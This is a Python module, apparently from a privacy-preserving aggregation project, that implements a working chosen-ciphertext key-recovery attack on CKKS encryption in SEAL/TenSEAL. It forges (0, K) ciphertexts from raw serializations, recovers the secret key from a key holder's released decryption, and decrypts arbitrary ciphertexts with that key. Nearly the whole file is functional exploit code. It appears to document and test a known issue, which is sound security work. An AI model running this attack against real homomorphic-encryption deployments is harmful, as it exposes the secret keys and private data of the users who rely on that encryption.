"""Hand-made CKKS ciphertexts and what an attacker does with a decryption of one.

The chosen-ciphertext key recovery (issue 13, item 1): SEAL keeps fresh ciphertexts in NTT
form, where the decryption of ``(c0, c1)`` is ``c0 + c1 * s`` coefficient-wise. The constant
polynomial ``K`` is the constant ``K`` in every NTT position, so ``(0, K)`` decrypts to ``K * s``:
a key holder that releases it (decoded, flooded and rounded) hands out the secret key, because
``s`` has coefficients in ``{-1, 0, 1}`` and ``K`` (about ``scale / 128``) is far above the flood.
Encoding the released values back gives ``K * s`` plus small noise; dividing by ``K`` and
rounding gives ``s`` exactly. With ``s`` the attacker decrypts any ciphertext under that key.

``tenseal.sealapi`` exposes ciphertext words read-only (``dyn_array``), so ciphertexts are
written here as uncompressed SEAL 4.3 serializations (header, parameters id, NTT flag, size,
degree, RNS size, scale, correction factor, then the words as a nested ``DynArray``), which
SEAL's own loader validates. Single-prime presets only (``lean``, ``fast``, ``compact``):
that is every preset a key holder of either kind uses by default.
"""

from __future__ import annotations

import os
import struct
import tempfile
from typing import Any

import numpy as np
import numpy.typing as npt
import tenseal.sealapi as seal

from he.ring import Ring

__all__ = ["ciphertext_words", "ciphertext_from_words", "key_query", "add_key_query", "recover_secret",
           "decrypt_with_secret"]

_HEADER = struct.Struct("<HBBBBHQ")


def _single_prime(ring: Ring) -> int:
    if len(ring.data_moduli) != 1:
        raise ValueError("the crafting helpers handle single-prime rings (lean, fast, compact)")
    return int(ring.data_moduli[0])


def ciphertext_words(ciphertext: Any) -> npt.NDArray[np.uint64]:
    """Every word of a ciphertext (``size * L * N`` residues), read through SEAL's API."""
    array = ciphertext.dyn_array()
    return np.array([array.at(i) for i in range(array.size())], dtype=np.uint64)


def _seal_blob(body: bytes) -> bytes:
    return _HEADER.pack(0xA15E, 16, 4, 3, 0, 0, 16 + len(body)) + body


def ciphertext_from_words(ring: Ring, words: npt.NDArray[np.uint64], *, ntt: bool = True,
                          scale: float | None = None) -> Any:
    """A SEAL ciphertext (two polynomials, top level) holding ``words``, loaded and checked by SEAL."""
    n, levels = ring.params.poly_modulus_degree, len(ring.data_moduli)
    words = np.ascontiguousarray(words, dtype="<u8")
    if words.size != 2 * levels * n:
        raise ValueError(f"a two-polynomial ciphertext has {2 * levels * n} words, got {words.size}")
    nested = _seal_blob(struct.pack("<Q", words.size) + words.tobytes())
    body = (struct.pack("<4Q", *ring.parms_id) + (b"\x01" if ntt else b"\x00")
            + struct.pack("<QQQd", 2, n, levels, ring.scale if scale is None else scale)
            + struct.pack("<Q", 1) + nested)
    fd, path = tempfile.mkstemp(prefix="privagg-attack-")
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(_seal_blob(body))
        ciphertext = seal.Ciphertext(ring.context)
        ciphertext.load(ring.context, path)
    finally:
        os.unlink(path)
    return ciphertext


def key_query(ring: Ring, k: int | None = None) -> Any:
    """The ciphertext ``(0, K)``, built from public parameters alone (``K = scale / 128``)."""
    q, n = _single_prime(ring), ring.params.poly_modulus_degree
    k = int(ring.scale / 128) if k is None else k
    words = np.zeros(2 * n, dtype=np.uint64)
    words[n:] = k % q
    return ciphertext_from_words(ring, words)


def add_key_query(ring: Ring, ciphertext: Any, k: int | None = None) -> Any:
    """``ciphertext + (0, K)``: a lone client's upload ``Enc(x) + (0, K)``, which the sum carries along."""
    q, n = _single_prime(ring), ring.params.poly_modulus_degree
    k = int(ring.scale / 128) if k is None else k
    words = ciphertext_words(ciphertext)
    words[n:] = ((words[n:].astype(object) + k) % q).astype(np.uint64)
    return ciphertext_from_words(ring, words)


def _coefficients(ring: Ring, values: npt.NDArray[np.float64]) -> npt.NDArray[np.int64]:
    """Centred integer coefficients of the encoding of ``values`` (N reals: two per slot)."""
    q, n = _single_prime(ring), ring.params.poly_modulus_degree
    plaintext = seal.Plaintext()
    ring.encoder.encode((values[0::2] + 1j * values[1::2]).tolist(), ring.scale, plaintext)
    words = np.zeros(2 * n, dtype=np.uint64)
    words[:n] = [plaintext.data(i) for i in range(n)]
    words[n:] = 1  # SEAL refuses to transform a "transparent" ciphertext (second polynomial zero)
    holder = ciphertext_from_words(ring, words)
    ring.evaluator.transform_from_ntt_inplace(holder)
    coeffs = ciphertext_words(holder)[:n].astype(object)
    return np.array([int(c) - q if int(c) > q // 2 else int(c) for c in coeffs], dtype=np.int64)


def recover_secret(ring: Ring, released: npt.NDArray[np.float64], k: int | None = None,
                   minus: npt.NDArray[np.float64] | None = None) -> tuple[npt.NDArray[np.int64], float]:
    """The secret key's coefficients from the release of an aggregate holding ``(0, K)``
    (its first ``N`` values); ``minus``: what else that aggregate holds, if known (a lone client
    subtracts nothing: honest sums of a few clients are noise next to ``K``). Also returns the
    largest distance of ``coeff / K`` from the integer it was rounded to (0.5 means no signal)."""
    n = ring.params.poly_modulus_degree
    k = int(ring.scale / 128) if k is None else k
    values = np.asarray(released[:n], dtype=np.float64)
    if minus is not None:
        values = values - minus[:n]
    ratio = _coefficients(ring, values) / k
    secret = np.rint(ratio).astype(np.int64)
    return secret, float(np.max(np.abs(ratio - secret)))


def decrypt_with_secret(ring: Ring, secret: npt.NDArray[np.int64], ciphertexts: list[Any]) -> npt.NDArray[np.float64]:
    """Decrypt ciphertexts (NTT form) with recovered secret coefficients: ``c0 + c1 * NTT(s)``,
    then SEAL's own decoding (through a throwaway key, applied to ``(m, 0)``)."""
    q, n = _single_prime(ring), ring.params.poly_modulus_degree
    words = np.zeros(2 * n, dtype=np.uint64)
    words[:n] = [int(v) % q for v in secret]
    words[n:] = 1  # not transparent (see _coefficients)
    holder = ciphertext_from_words(ring, words, ntt=False)
    ring.evaluator.transform_to_ntt_inplace(holder)
    s_ntt = ciphertext_words(holder)[:n].astype(object)
    dummy = seal.Decryptor(ring.context, seal.KeyGenerator(ring.context).secret_key())
    out = []
    for ciphertext in ciphertexts:
        w = ciphertext_words(ciphertext).astype(object)
        m = np.zeros(2 * n, dtype=np.uint64)
        m[:n] = ((w[:n] + w[n:] * s_ntt) % q).astype(np.uint64)
        plaintext = seal.Plaintext()
        dummy.decrypt(ciphertext_from_words(ring, m, scale=ciphertext.scale), plaintext)
        out.append(ring.decode(plaintext))
    return np.concatenate(out)
